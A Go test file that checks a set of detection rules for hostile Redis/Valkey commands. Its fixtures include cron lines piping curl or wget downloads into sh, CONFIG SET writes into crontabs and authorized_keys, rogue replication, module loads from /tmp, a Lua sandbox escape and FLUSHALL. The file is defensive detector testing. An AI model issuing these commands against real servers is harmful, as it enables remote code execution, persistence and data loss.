package sigma

import "testing"

// The rules that come with the program match what they are for, and nothing of
// what servers log every day.
func TestContributedRules(t *testing.T) {
	j, err := Load([]string{"../../contrib/sigma"})
	if err != nil {
		t.Fatal(err)
	}
	hostile := map[string][][]string{
		"sigma-scheduled-job-written-into-a-value": {
			{"SET", "backup1", "\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/i.sh|sh\n\n"}, {"SET", "x", "\n@reboot wget -qO- http://a.test/x | sh\n"},
		},
		"sigma-snapshot-moved-to-where-other-programs-read": {
			{"CONFIG", "SET", "dir", "/var/spool/cron/crontabs"}, {"config", "set", "dbfilename", "authorized_keys"}, {"CONFIG", "SET", "dir", "/home/app/.ssh/"},
		},
		"sigma-replication-from-a-public-address":                    {{"SLAVEOF", "198.51.100.7", "6379"}, {"REPLICAOF", "2001:db8::7", "21000"}, {"REPLICAOF", "primary.test", "6379"}},
		"sigma-module-loaded-from-a-place-that-anybody-can-write-to": {{"MODULE", "LOAD", "/tmp/exp.so"}, {"module", "loadex", "/dev/shm/x.so", "ARGS"}},
		"sigma-script-that-leaves-its-sandbox":                       {{"EVAL", `local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")`, "0"}},
		"sigma-all-data-flushed":                                     {{"FLUSHALL"}, {"flushall", "ASYNC"}},
	}
	daily := [][]string{
		{"SELECT", "0"}, {"SET", "page", "*/2 is not a schedule"}, {"SET", "note", "run curl http://x | sh every day"}, {"CONFIG", "SET", "maxmemory", "1gb"},
		{"CONFIG", "SET", "dir", "/var/lib/valkey"}, {"REPLICAOF", "NO", "ONE"}, {"REPLICAOF", "10.0.0.7", "6379"}, {"MODULE", "LOAD", "/usr/lib/valkey/search.so"},
		{"EVAL", "return redis.call('GET', KEYS[1])", "1", "k"}, {"HSET", "job", "cron", "0 3 * * * backup"}, {"FLUSHDB"}, {"DEL", "FLUSHALL"}, {"MULTI"}, {"EXEC"},
	}
	matched := map[int]bool{}
	of := func(words []string) (out []int) {
		for i, r := range j.rules {
			if r.Matches(event(words...)) {
				out = append(out, i)
			}
		}
		return out
	}
	for name, commands := range hostile {
		for _, words := range commands {
			got := of(words)
			if len(got) != 1 || j.rules[got[0]].name() != name {
				t.Errorf("%q matches %v, want %s", words, got, name)
				continue
			}
			matched[got[0]] = true
		}
	}
	for i, r := range j.rules {
		if !matched[i] {
			t.Errorf("%s: nothing shows that it matches", r.File)
		}
	}
	for _, words := range daily {
		if got := of(words); len(got) > 0 {
			t.Errorf("%q matches %s", words, j.rules[got[0]].name())
		}
	}
}
